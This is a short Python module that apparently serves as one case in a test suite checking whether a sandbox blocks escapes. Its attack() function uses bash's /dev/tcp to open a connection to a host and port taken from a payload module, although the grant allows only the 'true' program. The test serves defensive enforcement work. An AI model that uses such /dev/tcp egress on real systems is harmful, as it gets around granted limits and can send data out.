"""Another interpreter on the machine, where one program was granted."""
CATEGORY = "ways out"
REACH = "net"
GRANT = {"run": ["true"]}

import subprocess

from . import payload


def attack():
    subprocess.run(["/bin/bash", "-c", "echo evil > /dev/tcp/"
                    f"{payload.HOST}/{payload.PORT}"])
